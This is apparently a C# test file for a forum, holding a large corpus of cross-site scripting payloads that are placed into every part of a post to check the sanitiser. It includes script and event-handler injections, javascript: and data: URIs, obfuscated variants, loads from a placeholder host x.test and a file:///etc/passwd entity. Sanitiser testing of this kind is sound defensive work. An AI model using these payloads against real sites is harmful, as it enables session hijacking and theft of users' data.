namespace Forum.Tests.Text;

/// <summary>Texts that would run script in a careless page: our own, and the well-known shapes. Each is tried alone and in every place a post has.</summary>
public static class XssCorpus
{
    public static IEnumerable<string> Payloads() => Tags.Concat(Handlers()).Concat(Addresses.SelectMany(Linked)).Concat(Markdown).Concat(Broken()).Distinct();

    /// <summary>The payload where a member could put it.</summary>
    public static IEnumerable<string> Placed(string payload) =>
    [
        payload,
        $"bonjour {payload} bonsoir",
        $"# {payload}",
        $"> {payload}",
        $"- [ ] {payload}",
        $"|{payload}|b|\n|:-:|-|\n|{payload}|{payload}|",
        $"**{payload}**",
        $"[{payload}](https://example.org)",
        $"[texte]({payload})",
        $"[texte](<{payload}>)",
        $"[texte](https://example.org \"{payload}\")",
        $"![{payload}](https://example.org/a.png)",
        $"![texte]({payload})",
        $"[texte][r]\n\n[r]: {payload}",
        $"[texte][r]\n\n[r]: https://example.org '{payload}'",
        $"<{payload}>",
        $"`{payload}`",
        $"```{payload}\n{payload}\n```",
        $"    {payload}",
        $"[@{payload}](membre:12)",
        $"[@Ève](membre:{payload})",
        $"https://example.org/{payload}",
        $"www.example.org/?a={payload}",
        $"\\{payload}",
        $"<div>\n{payload}\n</div>",
        $"<!-- {payload} -->",
        $"&lt;{payload}&gt;",
    ];

    private static readonly string[] Tags =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//x.test/a.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<script/src=data:,alert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)", "</script><script>alert(1)</script>", "<script type=module>import('//x.test')</script>", "<script>/*<!--*/alert(1)</script>", "<<script>alert(1);//<</script>",
        "<script x>alert(1)</script x>", "<\0script>alert(1)</script>", "<script\0>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<script >alert(1)</script >", "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) />", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><foreignObject><iframe src=javascript:alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=\"data:text/html,<script>alert(1)</script>\">", "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
        "<object data=javascript:alert(1)></object>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=javascript:alert(1)>", "<embed code=\"//x.test/a.swf\" allowscriptaccess=always>", "<applet code=A archive=//x.test/a.jar>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta charset=utf-7>", "<base href=\"javascript:alert(1)//\">", "<base href=//x.test/>", "<link rel=stylesheet href=//x.test/a.css>", "<link rel=import href=data:text/html,alert(1)>", "<link rel=prefetch href=//x.test>",
        "<style>*{background:url(//x.test)}</style>", "<style>@import '//x.test/a.css';</style>", "<style>@import'javascript:alert(1)';</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"position:fixed;inset:0\">x</p>", "<div style=\"-moz-binding:url(//x.test#x)\">",
        "<form action=javascript:alert(1)><button>x</button></form>", "<form><button formaction=javascript:alert(1)>x</button>", "<form action=//x.test><input name=password></form>", "<input type=image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<button onclick=alert(1)>x</button>", "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<video poster=javascript:alert(1)//></video>", "<audio src=x onerror=alert(1)>", "<audio controls src=//x.test/a.mp3>", "<track src=//x.test onload=alert(1)>", "<picture><source srcset=//x.test/a.png><img src=//x.test/b.png></picture>",
        "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<table background=javascript:alert(1)><td background=javascript:alert(1)>", "<td background=//x.test/a.png>", "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x</details>", "<dialog open onclose=alert(1)>", "<portal src=//x.test>", "<xss onfocus=alert(1) tabindex=1 autofocus>", "<x contenteditable onblur=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>", "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">", "<plaintext><script>alert(1)</script>", "<template><script>alert(1)</script></template>", "<slot onslotchange=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<?php echo '<script>alert(1)</script>'?>", "<!DOCTYPE x [<!ENTITY a \"<script>alert(1)</script>\">]>&a;", "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a target=_blank href=//x.test>x</a>", "<a ping=//x.test href=/>x</a>", "<area href=javascript:alert(1)>", "<map><area href=javascript:alert(1)></map>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>", "<img src=\"x\" onerror=\"alert(1)\"", "<img \"\"\"><script>alert(1)</script>\">", "<img src=`x`onerror=alert(1)>", "<img src=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<img srcset=\"//x.test 1x\">", "<image src=x onerror=alert(1)>", "<IMG SRC=&#0000106&#0000097&#0000118&#0000097>", "<img src=x onerror&#61;alert(1)>", "<img src=x\fonerror=alert(1)>", "<img src=x\vonerror=alert(1)>",
    ];

    private static readonly string[] Events = ["onclick", "onerror", "onload", "onmouseover", "onfocus", "onblur", "ontoggle", "onpointerenter", "onanimationstart", "onanimationend", "ontransitionend", "onwheel", "onscroll", "oncopy", "onpaste", "onbeforeinput", "ondragstart", "onauxclick", "onbeforetoggle", "oncontentvisibilityautostatechange", "ONCLICK", "on\0click"];

    private static IEnumerable<string> Handlers()
    {
        foreach (var name in Events)
        {
            yield return $"<p {name}=alert(1)>x</p>";
            yield return $"<b\t{name}='alert(1)'>x</b>";
            yield return $"<a/{name}=\"alert(1)\">x</a>";
            yield return $"<span class=mention {name}=alert(1)>x</span>";
            yield return $"\" {name}=alert(1) x=\"";
            yield return $"' {name}='alert(1)";
        }
    }

    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "java&#x09;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#1;javascript:alert(1)", "\u0001javascript:alert(1)", " javascript:alert(1)", "\u00A0javascript:alert(1)", "\u2028javascript:alert(1)", "\uFEFFjavascript:alert(1)",
        "javascript://example.org/%0Aalert(1)", "javascript:/*https://*/alert(1)", "javascript%3Aalert(1)", "java%0ascript:alert(1)", "javascript\\:alert(1)", "jav\\ascript:alert(1)", "javascript:alert`1`", "javascript:alert%281%29", "javascript:'<script>alert(1)</script>'", "//javascript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "DATA:,x", "data&colon;text/html,x", "vbscript:msgbox(1)", "livescript:x", "mocha:x", "blob:https://x.test/1", "filesystem:https://x.test/a", "file:///etc/passwd", "ftp://x.test", "ws://x.test", "tel:123", "sms:123", "intent://x#Intent;end", "ms-word:ofe|u|https://x.test", "chrome://settings", "about:blank", "smb://x.test",
        "//x.test", "///x.test", "/\\x.test", "\\\\x.test", "/\tx.test", "/&#9;/x.test", "/&#10;/x.test", "/&bsol;x.test", "http:x.test", "https:/\\x.test", "http://", "https://[", "https://x\0.test", "https://x.test\" onclick=\"alert(1)", "https://x.test' onclick='alert(1)", "https://x.test/><script>alert(1)</script>", "mailto:a@b.test\" onclick=\"alert(1)", "membre:12\" onclick=\"alert(1)", "./a", "../a", "?a", "#a", "a",
    ];

    private static IEnumerable<string> Linked(string address) =>
        [address, $"[x]({address})", $"[x](<{address}>)", $"![x]({address})", $"<{address}>", $"[x]: {address}\n\n[x]", $"[x]({address} \"t\")"];

    private static readonly string[] Markdown =
    [
        "[x](https://a\" onclick=\"alert(1))", "[x](https://a 'onclick=alert(1)')", "[x](<https://a> \"\\\" onclick=alert(1)\")", "[a](b)[c](javascript:alert(1))", "[a[b](javascript:alert(1))](https://c)", "![a](\"onerror=\"alert(1))", "![\" onerror=alert(1) \"](x)", "[![x](javascript:alert(1))](javascript:alert(2))", "[\\](javascript:alert(1))", "[x]\\(javascript:alert(1)\\)", "[x] (javascript:alert(1))", "[x]((javascript:alert(1)))", "[x](javascript:alert\\(1\\))", "[x](\njavascript:alert(1)\n)",
        "[x]:javascript:alert(1)\n[x]", "[javascript:alert(1)]", "[x][javascript:alert(1)]", "<https://a\" onclick=\"alert(1)>", "<javascript:alert(1)>", "<javascript&colon;alert(1)>", "https://a\"onclick=alert(1)", "https://a/<script>alert(1)</script>", "www.a.test\"onclick=alert(1)", "mailto:a@b\"onclick=alert(1)", "http://<script>alert(1)</script>", "`<script>alert(1)</script>`", "``` <script>\n<script>alert(1)</script>", "~~~\"onclick=alert(1)\nx", "```\" onclick=\"alert(1)\nx\n```", "|<script>alert(1)</script>|\n|-|", "|\"onclick=alert(1)|\n|-|\n|x|", "- [x] <script>alert(1)</script>", "- [<script>] x", "1\\. <script>alert(1)</script>", "\\<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;", "*<img src=x onerror=alert(1)>*", "[<img src=x onerror=alert(1)>](/a)", "# <img src=x onerror=alert(1)> {#id onclick=alert(1)}", "text{onclick=alert(1)}", "[x](/a){onclick=alert(1)}", "[x](/a){:target=\"_blank\"}", ":::{onclick=alert(1)}\nx\n:::", "[^1]\n\n[^1]: <script>alert(1)</script>", "$$<script>alert(1)</script>$$", "{{constructor.constructor('alert(1)')()}}", "@(alert(1))", "<%= alert(1) %>", "${alert(1)}", "[@Ève<script>](membre:1)", "[@\" onclick=\"alert(1)](membre:1)",
    ];

    private static IEnumerable<string> Broken()
    {
        foreach (var c in "\0\u0001\u0008\u000B\u000C\u001F\u007F\u0085\u00A0\u00AD\u200B\u2028\u202E\u3000\uFEFF\uFFFD\uFFFF\uD83D\uDE00")
        {
            yield return $"<{c}script>alert(1)</script>";
            yield return $"<img{c}src=x{c}onerror=alert(1)>";
            yield return $"[x]({c}javascript:alert(1))";
            yield return $"[x](java{c}script:alert(1))";
            yield return $"[x](javascript{c}:alert(1))";
        }
    }
}
